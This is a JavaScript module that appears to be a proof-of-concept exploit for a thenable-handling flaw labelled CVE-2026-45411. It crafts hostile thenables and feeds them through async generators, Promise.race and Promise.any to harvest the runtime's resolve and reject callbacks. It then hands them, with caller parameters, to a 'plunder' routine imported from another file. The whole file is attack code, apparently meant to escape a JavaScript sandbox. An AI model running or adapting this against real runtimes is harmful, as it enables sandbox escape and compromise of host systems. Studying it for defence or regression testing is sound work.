// Thenables where a promise is awaited: returned, yielded, given to an async generator's return
// (CVE-2026-45411).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const thenable = {
    then(...callbacks) {
      bag.take(this, ...callbacks);
      callbacks[0]?.(1);
      callbacks[0]?.(thenable);
    },
  };
  async function* inner() { try { yield thenable; } finally { bag.take(new Error('closed')); } }
  async function* outer() { yield* inner(); }
  for (const make of [inner, outer]) {
    const generator = make();
    bag.take(await generator.next());
    bag.take(await generator.return(thenable));
    try {
      bag.take(await make().throw(thenable));
    } catch (error) {
      bag.take(error);
    }
  }
  bag.take(await thenable, await Promise.race([thenable]), await Promise.any([thenable]));
  try {
    bag.take(await echo(thenable));
  } catch (error) {
    bag.take(error);
  }
  let turns = 0;
  const last = { then(resolve, reject) {
    bag.take(resolve, reject);
    if (turns++ < 3) resolve(last); else resolve(plunder(bag.values(), params));
  } };
  return last;
}
